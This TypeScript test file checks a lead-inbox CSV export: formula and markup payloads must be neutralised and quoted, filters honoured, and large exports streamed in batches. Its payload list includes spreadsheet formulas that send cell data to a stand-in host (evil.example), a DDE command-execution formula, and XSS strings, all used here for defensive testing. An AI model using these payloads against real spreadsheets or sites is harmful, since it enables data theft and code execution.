// CSV export: formula and markup payloads neutralised and quoted, the filter applied, batches streamed, on both databases.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  BACKENDS,
  type InboxFixture,
  openWithTwoAccounts,
  type TestChannel,
} from "../../testing/inbox-fixture.ts";
import { csvCell, csvLine } from "./csv-cell.ts";
import { exportInboxCsv } from "./csv-export.ts";

/** Spreadsheet formula injection (OWASP's list and variants) and markup meant to run in a page. */
const PAYLOADS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '<script>alert("x")</script>',
  "<img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "javascript:alert(1)",
  'a "quoted", comma\nand newline',
  '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
];

/** RFC 4180 parsing, enough to read our own output back. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      record.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      record.push(cell);
      records.push(record);
      record = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return records;
}

describe("csv cells", () => {
  it.each(PAYLOADS)("keeps %j as inert text in one cell", (payload) => {
    const [[cell]] = parseCsv(csvLine([payload])) as [[string]];
    expect(cell.replace(/^'/, "")).toBe(payload);
    // Nothing a spreadsheet evaluates: the cell never starts with a formula trigger, not even after spaces.
    expect(cell).not.toMatch(/^ *[=+\-@\t\r\n]/);
  });

  it.each([" =1+1", "  @SUM(A1)", "\n=1", " -2+3"])(
    "neutralises %j, a trigger after spaces or a line feed",
    (payload) => {
      expect(csvCell(payload)).toBe(`"'${payload}"`);
    },
  );

  it("writes a valid E.164 phone as it is, and neutralises anything else that starts with +", () => {
    expect(csvCell("+14155552671")).toBe('"+14155552671"');
    expect(csvCell("+442071838750")).toBe('"+442071838750"');
    expect(csvCell("+1415555267")).toBe('"+1415555267"');
    expect(csvCell("+0123")).toBe(`"'+0123"`);
    expect(csvCell("+1234567890123456")).toBe(`"'+1234567890123456"`);
    expect(csvCell("+1 415 555 2671")).toBe(`"'+1 415 555 2671"`);
    expect(csvCell("+1+1")).toBe(`"'+1+1"`);
  });

  it("leaves ordinary text alone apart from the quotes", () => {
    expect(csvCell("Ana López")).toBe('"Ana López"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(new Date("2026-01-02T03:04:05.678Z"))).toBe('"2026-01-02T03:04:05.678Z"');
    expect(csvCell("=1")).toBe(`"'=1"`);
  });
});

describe.each(BACKENDS)("csv export on %s", (backend) => {
  let fixture: InboxFixture;
  let web: TestChannel;
  let other: TestChannel;

  beforeAll(async () => {
    ({ fixture, web, other } = await openWithTwoAccounts(backend));
    for (const [i, payload] of PAYLOADS.entries()) {
      const { status, body } = await fixture.postAs(web, {
        email: `p${i}@example.com`,
        first_name: payload,
        last_name: payload,
        source_campaign: "-spring",
        property_ref: payload,
        source: payload,
        test: i % 2 === 0,
      });
      expect([status, payload, body]).toEqual([201, payload, expect.anything()]);
    }
    await fixture.postAs(other, { email: "foreign@example.com", first_name: "foreign" });
  });
  afterAll(() => fixture?.close());

  async function exported(filter = {}) {
    let text = "";
    for await (const chunk of exportInboxCsv(fixture.db, web.accountId, filter)) text += chunk;
    return parseCsv(text);
  }

  it("exports every lead of the account with each payload inert, in its own cell", async () => {
    const [header, ...rows] = await exported();
    expect(header).toContain("first_name");
    const first = header!.indexOf("first_name");
    const campaign = header!.indexOf("source_campaign");
    const property = header!.indexOf("property_ref");
    const original = header!.indexOf("source_original");
    expect(rows).toHaveLength(PAYLOADS.length);
    expect(rows.map((row) => row[first]!.replace(/^'/, "")).sort()).toEqual([...PAYLOADS].sort());
    for (const row of rows) {
      expect(row).toHaveLength(header!.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(row[campaign]).toBe("'-spring");
      expect(row[property]).toBe(row[first]);
      expect(row[original]).toBe(row[first]);
    }
    expect(rows.flat()).not.toContain("foreign");
  });

  it("exports only what the filter shows", async () => {
    const [, ...rows] = await exported({ test: true });
    expect(rows).toHaveLength(Math.ceil(PAYLOADS.length / 2));
  });

  it("reads a large export in keyset batches, every lead once", async () => {
    const bulk = await fixture.newAccount();
    // 1,234 leads straight into the table: more than two batches.
    await fixture.db.query(
      `insert into leads (id, account_id, channel_token_id, email, source, received_at, respond_by, updated_at, response_state, response_reason)
       select gen_random_uuid(), $1, $2, 'bulk' || i || '@example.com', 'form',
         now() - i * interval '1 millisecond', now() + interval '5 minutes', now(), 'not_called', 'no_consent'
       from generate_series(1, 1234) as i`,
      [bulk.accountId, bulk.tokenId],
    );
    const chunks: string[] = [];
    for await (const chunk of exportInboxCsv(fixture.db, bulk.accountId)) chunks.push(chunk);
    expect(chunks.length).toBe(4);
    const rows = parseCsv(chunks.join("")).slice(1);
    expect(rows).toHaveLength(1234);
    const email = parseCsv(chunks[0]!)[0]!.indexOf("email");
    expect(new Set(rows.map((row) => row[email])).size).toBe(1234);
    expect(rows[0]![email]).toBe("bulk1@example.com");
  });
});
